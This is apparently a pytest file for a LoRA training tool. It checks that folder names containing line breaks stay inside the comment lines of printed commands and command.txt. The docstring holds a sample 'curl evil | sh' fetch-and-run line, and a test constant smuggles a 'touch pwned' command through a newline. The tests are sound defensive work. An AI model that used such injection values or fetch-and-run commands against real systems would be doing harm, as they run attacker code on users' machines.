"""`--print-command` and command.txt show a shared project's folder names inside their comment lines:
a folder named "x\\ncurl evil | sh #" must not print a line of its own that a pasted copy would run.
(The commands themselves are shell-quoted, so a line break inside one stays inside its quotes.)"""

from __future__ import annotations

from types import SimpleNamespace

from lora_workbench.cli import train as cli_train
from lora_workbench.training.job import Job, Step
from lora_workbench.training.train import commands_text

HOSTILE = "/home/me/proj\ntouch pwned #\r\u2028"


def _job(cwd: str = "/opt/musubi") -> Job:
    cache = Step(
        "cache_latents",
        "Caching latents",
        ("python", "cache.py"),
        cwd=cwd,
        progress="count",
        reuse_key="abc",
        reuse_marker=f"{HOSTILE}/cache/musubi/wan/cache_latents.key",
    )
    train = Step("train", "Training", ("python", "train.py"), cwd="/opt/musubi")
    return Job(
        backend="musubi-tuner",
        steps=(cache, train),
        files={"dataset.toml": "[general]\n"},
        output_dir=f"{HOSTILE}/output/run-001",
        output_name="x",
        final_name="x.safetensors",
        total_steps=1,
        device="gpu",
        mixed_precision="bf16",
        script="train.py",
    )


def _starts_a_line(text: str) -> bool:
    return any(line.startswith("touch pwned") for line in text.splitlines())


def test_a_folder_name_with_line_breaks_stays_inside_the_printed_comments():
    text = _job().display()
    assert not _starts_a_line(text)
    assert "proj\\x0atouch pwned" in text


def test_command_txt_keeps_a_working_directory_with_line_breaks_on_its_comment_line():
    assert not _starts_a_line(commands_text(_job(cwd=HOSTILE)))


def test_print_command_warnings_and_run_folder_stay_one_comment_line_each(monkeypatch, capsys):
    plan = SimpleNamespace(
        model=SimpleNamespace(name="base\ntouch pwned", how="picked"),
        job=_job(),
        run_dir=f"{HOSTILE}/output/run-001",
        warnings=[f"The subset {HOSTILE} holds videos"],
    )
    monkeypatch.setattr(cli_train.train, "plan", lambda *a, **k: plan)
    assert cli_train._print_command(None, None, "base") == 0
    assert not _starts_a_line(capsys.readouterr().out)
